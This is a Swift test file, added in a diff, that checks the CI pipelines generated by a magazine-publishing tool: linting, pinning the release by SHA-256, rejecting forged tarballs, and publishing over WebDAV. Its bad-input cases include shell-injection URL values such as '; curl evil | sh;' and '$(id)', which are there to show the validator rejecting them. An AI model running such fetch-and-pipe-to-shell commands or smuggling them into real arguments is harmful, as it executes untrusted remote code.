@@ -1,0 +1,160 @@
+import Foundation
+import NewsstandTestSupport
+import Testing
+
+/// `newsstand init --ci`: the pipelines pass the real linters, and every command they hold runs,
+/// in order, against the sample magazine and a WebDAV nginx, with newsstand installed from the
+/// release tarball as the pipeline installs it.
+@Suite struct PipelineTests {
+    static let kinds = [("github", ".github/workflows/newsstand.yml"), ("gitlab", ".gitlab-ci.yml")]
+    static let someDigest = String(repeating: "ab", count: 32)
+
+    @Test(arguments: kinds) func initWritesAPipelineThatPassesTheLinters(kind: String, path: String) async throws {
+        let folder = try Shell.temporaryFolder("init-ci").appendingPathComponent("magazine")
+        let result = await InProcess.newsstand([
+            "init", folder.path, "--ci", kind, "--release-url", "https://releases.example.com/newsstand-0.1.0-linux-x86_64.tar.gz",
+            "--release-sha256", Self.someDigest,
+        ])
+        #expect(result.status == 0, "\(result.stderr)")
+        let file = folder.appendingPathComponent(path)
+        let text = try String(contentsOf: file, encoding: .utf8)
+        #expect(text.contains("https://releases.example.com/newsstand-0.1.0-linux-x86_64.tar.gz\n"))
+        #expect(text.contains("\(Self.someDigest)\n"))
+        #expect(!text.contains("@NEWSSTAND"), "a placeholder is left")
+        // yamllint's default rules, warnings included.
+        let yamllint = try Shell.run("yamllint", ["--strict", file.path])
+        #expect(yamllint.status == 0, "\(yamllint.stdout)\(yamllint.stderr)")
+        if kind == "github" {
+            // actionlint also runs shellcheck on every run: script (shellcheck is installed).
+            #expect(try Shell.run("shellcheck", ["--version"]).status == 0)
+            let actionlint = try Shell.run("actionlint", ["-shellcheck", try Shell.locate("shellcheck"), file.path], in: folder)
+            #expect(actionlint.status == 0, "\(actionlint.stdout)\(actionlint.stderr)")
+        }
+        let validated = await InProcess.newsstand(["validate", folder.path, "--strict"])
+        #expect(validated.status == 0, "the pipeline's files do not disturb the magazine: \(validated.stdout)")
+    }
+
+    @Test(arguments: [
+        (["--ci", "github"], "newsstand init: error: --ci needs --release-url and --release-sha256: the pipeline installs newsstand from that release tarball, pinned by its SHA-256"),
+        (["--ci", "github", "--release-url", "https://x.example/n.tar.gz\"; curl evil | sh; \"", "--release-sha256", someDigest], "newsstand init: error: --release-url may hold only letters, digits and -._~:/?#[]@!&+,;=% (it goes into YAML and a shell)"),
+        (["--ci", "github", "--release-url", "https://x.example/$(id).tar.gz", "--release-sha256", someDigest], "newsstand init: error: --release-url may hold only letters, digits and -._~:/?#[]@!&+,;=% (it goes into YAML and a shell)"),
+        (["--ci", "gitlab", "--release-url", "https://bob:s3cret@x.example/n.tar.gz", "--release-sha256", someDigest], "newsstand init: error: --release-url must not hold credentials: a pipeline file is read by everyone with the repository"),
+        (["--ci", "gitlab", "--release-url", "https://x.example/n.tar.gz", "--release-sha256", "abc"], "newsstand init: error: --release-sha256 needs a SHA-256 digest (64 hexadecimal digits), got 'abc'"),
+        (["--ci", "circle"], "newsstand init: error: unknown ci 'circle'; expected github or gitlab"),
+        (["--release-url", "https://x.example/n.tar.gz"], "newsstand init: error: --release-url and --release-sha256 go with --ci"),
+    ])
+    func aBadPipelineRequestWritesNothing(options: [String], message: String) async throws {
+        let folder = try Shell.temporaryFolder("init-ci-bad").appendingPathComponent("magazine")
+        let result = await InProcess.newsstand(["init", folder.path] + options)
+        #expect(result.status == 2)
+        #expect(result.stderr.hasPrefix(message + "\n"), "\(result.stderr)")
+        #expect(!result.stderr.contains("s3cret"))
+        #expect(!FileManager.default.fileExists(atPath: folder.path), "nothing is written")
+    }
+
+    /// The sample's pipelines are what init writes today (with their own release values).
+    @Test(arguments: kinds) func theSamplesPipelinesAreWhatInitWrites(kind: String, path: String) async throws {
+        let sample = Shell.repositoryRoot.appendingPathComponent("Samples/aurora").appendingPathComponent(path)
+        let text = try String(contentsOf: sample, encoding: .utf8)
+        let values = try Shell.python(
+            "import sys, yaml; d = yaml.safe_load(open(sys.argv[1])); v = d.get('env') or d['variables']; print(v['NEWSSTAND_URL']); print(v['NEWSSTAND_SHA256'])",
+            [sample.path])
+        let lines = values.stdout.split(separator: "\n").map(String.init)
+        try #require(lines.count == 2, "\(values.stderr)")
+        let folder = try Shell.temporaryFolder("sample-ci").appendingPathComponent("m")
+        let result = await InProcess.newsstand(["init", folder.path, "--ci", kind, "--release-url", lines[0], "--release-sha256", lines[1]])
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(try String(contentsOf: folder.appendingPathComponent(path), encoding: .utf8) == text,
+                "Samples/aurora/\(path) drifted from templates/ci/\(kind).yml: regenerate it (see Samples/README.md)")
+        if kind == "github" {
+            let readme = try String(contentsOf: Shell.repositoryRoot.appendingPathComponent("README.md"), encoding: .utf8)
+            #expect(readme.contains("```yaml\n" + text + "```\n"), "the README does not show the sample's workflow as it is")
+        }
+    }
+
+    /// Runs the pipeline of the sample (a copy) with `pipeline_runner.py` for `event`.
+    private func runPipeline(
+        _ kind: String, path: String, event: String, repository: URL, cache: URL, overrides: [String: Any]
+    ) throws -> Shell.Result {
+        let file = try Shell.temporaryFolder("overrides").appendingPathComponent("overrides.json")
+        try JSONSerialization.data(withJSONObject: overrides).write(to: file)
+        let runner = Shell.repositoryRoot.appendingPathComponent("Tests/NewsstandCLITests/pipeline_runner.py").path
+        // Debian's Python, which has python3-yaml (make deps).
+        return try Shell.run(
+            "/usr/bin/python3",
+            [runner, kind, repository.appendingPathComponent(path).path, event, repository.path, cache.path, file.path])
+    }
+
+    @Test(arguments: kinds) func theSamplesPipelineRunsItsCommandsAndPublishes(kind: String, path: String) throws {
+        let tarball = URL(fileURLWithPath: try ReleaseTarball.path())
+        let nginx = try Nginx()
+        defer { nginx.stop() }
+        let work = try Shell.temporaryFolder("pipeline")
+        // The repository: a copy of the sample (pipelines included) served by this nginx.
+        let repository = try nginx.sampleMagazine(in: work)
+        // Served from /aurora/, published through /dav/aurora/.
+        let settings = repository.appendingPathComponent("magazine.plist")
+        try String(contentsOf: settings, encoding: .utf8)
+            .replacingOccurrences(of: nginx.baseURL.absoluteString, with: nginx.baseURL.appendingPathComponent("aurora/").absoluteString)
+            .write(to: settings, atomically: true, encoding: .utf8)
+        try FileManager.default.createDirectory(at: nginx.root.appendingPathComponent("releases"), withIntermediateDirectories: true)
+        try FileManager.default.copyItem(at: tarball, to: nginx.root.appendingPathComponent("releases/\(tarball.lastPathComponent)"))
+        let digest = try Shell.run("sha256sum", [tarball.path]).stdout.prefix(64)
+        let cache = try Shell.temporaryFolder("ci-cache")
+        func overrides(sha: String = String(digest), destination: String, runID: String) throws -> [String: Any] {
+            let temp = try Shell.temporaryFolder("runner-temp")
+            return [
+                "HOME": work.path, "RUNNER_TEMP": temp.path, "github.run_id": runID,
+                "env": [
+                    "NEWSSTAND_URL": nginx.baseURL.appendingPathComponent("releases/\(tarball.lastPathComponent)").absoluteString,
+                    "NEWSSTAND_SHA256": sha, "NEWSSTAND_OUTPUT": temp.appendingPathComponent("output").path,
+                    "NEWSSTAND_TOOL": temp.appendingPathComponent("newsstand").path, "RUNNER_TEMP": temp.path,
+                ],
+                "secrets": ["NEWSSTAND_DESTINATION": destination, "NEWSSTAND_USER": "", "NEWSSTAND_PASSWORD": ""],
+            ]
+        }
+        let destination = nginx.baseURL.appendingPathComponent("dav/aurora/").absoluteString
+
+        // A tarball that is not the pinned one is refused before it is unpacked.
+        let forgedRun = try overrides(sha: Self.someDigest, destination: destination, runID: "1")
+        let forged = try runPipeline(kind, path: path, event: "push", repository: repository, cache: cache, overrides: forgedRun)
+        #expect(forged.status == 1, "\(forged.stdout)\(forged.stderr)")
+        #expect(forged.stderr.contains("sha256sum: WARNING: 1 computed checksum did NOT match"), "\(forged.stderr)")
+        let unpacked = ((forgedRun["RUNNER_TEMP"] as? String) ?? "") + "/newsstand/bin/newsstand"
+        #expect(!FileManager.default.fileExists(atPath: unpacked), "nothing of a forged tarball is unpacked")
+        #expect(!forged.stdout.contains("step: Build") && !forged.stdout.contains("published"))
+
+        // A pull request: validate and build.
+        let check = try runPipeline(
+            kind, path: path, event: "pull_request", repository: repository, cache: cache,
+            overrides: try overrides(destination: "", runID: "2"))
+        #expect(check.status == 0, "\(check.stdout)\(check.stderr)")
+        #expect(check.stdout.contains("job: check") && !check.stdout.contains("job: publish"))
+        #expect(check.stdout.contains("built 3 issue(s)"), "\(check.stdout)")
+        for package in ["libarchive13", "libcurl4", "libxml2"] { #expect(check.stdout.contains("package: \(package)\n")) }
+
+        // Without the destination secret, publish stops and says which secret to set.
+        let unset = try runPipeline(
+            kind, path: path, event: "push", repository: repository, cache: cache,
+            overrides: try overrides(destination: "", runID: "3"))
+        #expect(unset.status == 1, "\(unset.stdout)\(unset.stderr)")
+        #expect(unset.stderr.contains("NEWSSTAND_DESTINATION"), "\(unset.stderr)")
+        #expect(!FileManager.default.fileExists(atPath: nginx.root.appendingPathComponent("aurora/issues.plist").path))
+
+        // The main branch: build, publish, verify.
+        let published = try runPipeline(
+            kind, path: path, event: "push", repository: repository, cache: cache,
+            overrides: try overrides(destination: destination, runID: "4"))
+        #expect(published.status == 0, "\(published.stdout)\(published.stderr)")
+        #expect(published.stdout.contains("verified: the catalog parses and every bundle and cover URL answers 200"), "\(published.stdout)")
+        #expect(FileManager.default.fileExists(atPath: nginx.root.appendingPathComponent("aurora/issues.plist").path))
+
+        // The next run restores the build records from the cache: nothing is rebuilt.
+        let again = try runPipeline(
+            kind, path: path, event: "push", repository: repository, cache: cache,
+            overrides: try overrides(destination: destination, runID: "5"))
+        #expect(again.status == 0, "\(again.stdout)\(again.stderr)")
+        #expect(again.stdout.contains("cache: restored"), "\(again.stdout)")
+        #expect(again.stdout.contains("built 0 issue(s)") && again.stdout.contains("3 up to date"), "\(again.stdout)")
+    }
+}
